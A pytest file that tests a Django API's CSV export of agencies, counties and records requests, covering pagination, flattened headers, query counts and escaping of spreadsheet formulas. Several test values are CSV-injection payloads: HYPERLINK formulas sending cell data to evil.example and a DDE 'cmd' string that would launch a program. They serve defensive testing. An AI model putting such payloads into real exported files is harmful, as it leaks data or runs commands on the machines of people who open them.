import csv
import io
from datetime import date

import pytest

from core.api.renderers import csv_columns, csv_row
from jurisdictions.api.serializers import AgencySerializer
from jurisdictions.models import AgencyAlias
from tests.jurisdictions.factories import bulk_agencies

pytestmark = pytest.mark.django_db


def read_csv(response) -> list[dict[str, str]]:
    assert response.streaming, "a CSV list must be streamed"
    body = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.DictReader(io.StringIO(body)))


def json_rows(api, path: str, params: dict) -> list[dict]:
    rows, page = [], 1
    while True:
        data = api.get(path, {**params, "page": page, "page_size": 7}).data
        rows += data["results"]
        if not data["next"]:
            return rows
        page += 1


def test_csv_has_every_page_and_equals_the_json_rows(api):
    agencies = bulk_agencies(20, county_fips="32510")
    bulk_agencies(5, county_fips="06037")
    AgencyAlias.objects.create(agency=agencies[0], name="First Alias")
    AgencyAlias.objects.create(agency=agencies[0], name="Second Alias")
    params = {"state": "nv", "county": "32510", "has_ori": "false", "ordering": "-name"}
    response = api.get("/api/v1/agencies/", {**params, "format": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="agencies.csv"' in response["Content-Disposition"]
    rows = read_csv(response)
    expected = json_rows(api, "/api/v1/agencies/", params)
    assert len(rows) == len(expected) == 20
    assert [r["id"] for r in rows] == [str(a["id"]) for a in expected]
    assert [r["state.postal"] for r in rows] == ["NV"] * 20
    assert rows[-1]["aliases"] == "First Alias; Second Alias"
    assert rows[0]["url"] == expected[0]["url"], "links in CSV must not carry ?format=csv"


def test_header_is_the_serializer_fields_with_nested_objects_flattened(api):
    rows = read_csv(api.get("/api/v1/agencies/", {"format": "csv", "county": "32510", "has_ori": "false"}))
    assert rows == []
    header = api.get("/api/v1/agencies/", {"format": "csv", "county": "32510", "has_ori": "false"})
    first_line = b"".join(header.streaming_content).decode().splitlines()[0]
    assert first_line.split(",") == csv_columns(AgencySerializer())
    assert "state.postal" in first_line.split(",")
    assert "county.fips" in first_line.split(",")


def test_null_nested_object_gives_empty_cells():
    assert csv_row({"county": None, "n": 0, "ok": False}, ["county.fips", "n", "ok"]) == ["", "0", "false"]


def test_bad_filter_is_400_before_streaming(api):
    response = api.get("/api/v1/agencies/", {"format": "csv", "county": "abc"})
    assert response.status_code == 400
    assert not response.streaming


def test_counties_csv_is_not_paginated(api):
    rows = read_csv(api.get("/api/v1/counties/", {"format": "csv"}))
    assert len(rows) == 3235


def test_csv_query_count_is_one_per_chunk(api, django_assert_max_num_queries):
    bulk_agencies(150, county_fips="32510")
    # 1: the agencies (server-side cursor, one chunk); 2, 3: their aliases and counties, for the chunk.
    with django_assert_max_num_queries(3):
        rows = read_csv(
            api.get("/api/v1/agencies/", {"format": "csv", "county": "32510", "has_ori": "false"})
        )
    assert len(rows) == 150


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (
            '=HYPERLINK("https://evil.example/?"&A1,"click")',
            '\'=HYPERLINK("https://evil.example/?"&A1,"click")',
        ),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-26", "-26"),
        ("-115.17", "-115.17"),
        ("plain = fine", "plain = fine"),
        (["ok", "=1+1"], "ok; '=1+1"),
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(value, cell):
    from core.api.renderers import csv_cell

    assert csv_cell(value) == cell


def test_a_formula_title_is_exported_inert(api, django_user_model):
    from records_requests.services import request_create
    from tests.jurisdictions import factories

    organizer = django_user_model.objects.create_user("o")
    request_create(
        requester=organizer,
        agency=factories.agency("Clark County Sheriff"),
        title='=HYPERLINK("https://evil.example","x")',
        records_sought="r",
        sent_on=date(2026, 3, 2),  # a draft is private until sent
    )
    rows = read_csv(api.get("/api/v1/records-requests/", {"format": "csv"}))
    assert rows[0]["title"] == '\'=HYPERLINK("https://evil.example","x")'


def test_the_agreements_page_csv_is_neutralised_too(client):
    from agreements.views import csv_safe

    assert csv_safe("=1+1") == "'=1+1"
    assert client.get("/agreements/", {"format": "csv"}).status_code == 200
